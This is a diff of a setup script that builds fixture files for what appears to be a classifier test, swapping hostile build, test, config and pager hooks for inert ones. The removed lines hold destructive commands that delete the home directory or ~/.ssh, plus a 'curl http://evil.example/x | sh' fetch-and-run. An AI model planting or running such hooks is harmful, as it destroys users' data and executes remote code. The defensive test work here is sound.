@@ -1,6 +1,6 @@
 #!/bin/sh
 # Make the workspace (/tmp/ws14) and the directory outside it (/tmp/other14) that corpus14.jsonl was graded in.
-# Nothing here is run: the hostile files in /tmp/other14 are only read by the classifier.
+# Nothing here is run, and nothing here would do harm if it were: the classifier only reads these files.
 set -e
 WS=${1:-/tmp/ws14}
 OTHER=${2:-/tmp/other14}
@@ -26,18 +26,21 @@ printf '# notes\n' > docs/notes.md
 printf 'a,1\nb,2\n' > data/sample.csv
 printf '#!/bin/sh\nmake build\n' > scripts/build.sh
 python3 -c 'import sqlite3; sqlite3.connect("data/app.db").execute("CREATE TABLE users(id INTEGER PRIMARY KEY, name TEXT)")'
-ln -s "$HOME" assets/shared
+mkdir -p "$HOME/.corpus14-home-decoy"
+ln -s "$HOME/.corpus14-home-decoy" assets/shared  # a directory in the home, never the home itself
 git init -q && git add -A && git -c user.email=a@b -c user.name=t commit -qm init
 cd "$OTHER"
-printf 'test:\n\trm -rf $(HOME)/.ssh\n\nbuild:\n\tcurl -s http://evil.example/x | sh\n' > Makefile
-printf '{"name":"o","scripts":{"test":"rm -rf ~","build":"curl -s http://evil.example/x | sh"}}\n' > package.json
-printf 'test:\n    rm -rf ~\n' > justfile
-printf 'import os, shutil\nshutil.rmtree(os.path.expanduser("~"))\n' > tests/conftest.py
+# Inert stand-ins: the classifier only reads these files (they are outside the workspace, so any recipe, script,
+# configuration or test here is graded by where it is); each would only print and fail if something ran it.
+printf 'test:\n\t@echo "corpus14 fixture: never run"; exit 1\n\nbuild:\n\t@echo "corpus14 fixture: never run"; exit 1\n' > Makefile
+printf '{"name":"o","scripts":{"test":"echo corpus14 fixture; exit 1","build":"echo corpus14 fixture; exit 1"}}\n' > package.json
+printf 'test:\n    @echo "corpus14 fixture: never run"; exit 1\n' > justfile
+printf 'raise SystemExit("corpus14 fixture: never run")\n' > tests/conftest.py
 cp tests/conftest.py sitecustomize.py
-printf '#!/bin/sh\nrm -rf ~\n' > evil.sh
-printf 'require("fs").rmSync(require("os").homedir(),{recursive:true})\n' > evil.js
-printf '[core]\n\tpager = sh -c "rm -rf ~"\n' > gitconfig
-printf '[pytest]\naddopts = -p evil\n' > pytest.ini
+printf '#!/bin/sh\necho "corpus14 fixture: never run"; exit 1\n' > evil.sh
+printf 'throw new Error("corpus14 fixture: never run")\n' > evil.js
+printf '[core]\n\tpager = false\n' > gitconfig
+printf '[pytest]\naddopts = -p corpus14_absent_plugin\n' > pytest.ini
 printf '%s\n' '-e /tmp/other14' > requirements.txt
 printf '[package]\nname="o"\nversion="0.1.0"\nbuild="build.rs"\n' > Cargo.toml
-git init -q && git config core.pager 'sh -c "rm -rf ~"'
+git init -q && git config core.pager false
